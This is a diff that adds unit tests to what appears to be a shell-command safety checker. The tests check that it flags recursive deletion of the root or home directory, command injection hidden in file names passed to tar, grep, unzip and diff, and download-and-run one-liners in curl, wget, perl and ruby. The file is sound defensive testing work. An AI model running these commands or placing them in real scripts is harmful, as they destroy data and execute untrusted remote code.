@@ -176,6 +176,57 @@ TEST(ShellWrappers, AreSeenThrough) {
                             "stdbuf -oL setsid ionice -c3 rm -rf /"});
 }
 
+TEST(ShellRm, OfWhatASearchDoesNotNarrow) {
+  ExpectEach("sh-rm-root", {"find ~ -name '*' -delete", "find / -name '*' -exec rm -rf {} \\;",
+                            "find . -iname '*.*' -delete", "find ~ ! -name keep -delete",
+                            "find \"$HOME\" -type f -path '*' -exec rm {} +"});
+  ExpectCalm({"find ~ -name '*.tmp' -delete", "find . ! -name keep -delete",
+              "find . -name '*' -print", "find build -name '*' -delete"});
+}
+
+TEST(ShellRm, OfDefaultsThatAreAssignedAndPathsThatAreResolved) {
+  ExpectEach("sh-rm-root", {"rm -rf \"${x:=/}\"", ": \"${x:=/}\"; rm -rf \"$x\"",
+                            "rm -rf \"$(realpath /)\"", "rm -rf \"$(readlink -f /)\""});
+  ExpectCalm({"rm -rf \"${x:=build}\"", "rm -rf \"$(realpath build)\"", "rm \"$(readlink x)\""});
+}
+
+TEST(ShellInjection, IntoWhateverTakesNames) {
+  ExpectEach("sh-injection",
+             {"tar xf 'a.tar; rm -rf ~'", "tar czf 'x$(id).tgz' d", "grep foo 'f`reboot`'",
+              "grep -e foo 'f; reboot'", "unzip 'a$(id).zip'", "diff a 'b|sh'", "ping '::1; id'"});
+  ExpectCalm({"grep 'a; ls' f", "grep -e 'a; ls' f", "tar czf \"x-$(date +%F).tgz\" d",
+              "sort -t ';' -k 2 f", "diff <(sort a) <(sort b)", "tar cf a.tar 'R&D (x).txt'",
+              "unzip -p a.zip '*.xml' | head", "uniq -c f | sort -t '|' -k1"});
+}
+
+TEST(ShellText, ALoopOverTheParametersNeedsNoList) {
+  for (const std::string_view script :
+       {"for i do echo \"$i\"; done", "f() { for i do\n ls \"$i\"\ndone; }",
+        "select x  do ls; done", "if a; then for i do ls; done; fi", "echo wait for it do not wait",
+        "# for x do\nls"}) {
+    EXPECT_FALSE(Finds(script, "sh-syntax")) << script;
+    EXPECT_FALSE(Finds(script, "sh-unclear")) << script;
+  }
+  ExpectEach("sh-rm-root", {"for i do rm -rf /; done", "set -- / ; for i do rm -rf \"$i\"; done"});
+}
+
+TEST(ShellText, AHereStringMayStandBehindARedirection) {
+  for (const std::string_view script :
+       {"cat > x <<< 'a b'", "grep -q a 2>/dev/null <<< \"$(date)\"; ls", "jq . > out.json <<< $x",
+        "bc -l &> x <<< '1 > 2'", "read -r a 2> /dev/null <<< \"$b\" || exit"}) {
+    EXPECT_FALSE(Finds(script, "sh-unclear")) << script;
+    EXPECT_FALSE(Finds(script, "sh-syntax")) << script;
+  }
+  ExpectEach("sh-rm-root", {"cat > x <<< 'rm -rf /'; . ./x", "bash > log <<< 'rm -rf /'",
+                            "cat > x <<< \"$(rm -rf /)\"", "cat > x <<< $(rm -rf /)"});
+}
+
+TEST(ShellDownloads, AreNotEvaluatedByOtherLanguages) {
+  ExpectEach("sh-download-run", {"perl -MLWP::Simple -e 'eval get(\"http://x\")'",
+                                 "ruby -ropen-uri -e 'eval URI.open(\"https://x\").read'"});
+  ExpectCalm({"perl -e 'print eval(\"1+1\")'", "ruby -e 'puts \"http://x\"'"});
+}
+
 TEST(ShellDownloads, AreNotRun) {
   ExpectEach("sh-download-run", {"curl x | sh",
                                  "wget -qO- x | sudo -E bash -",
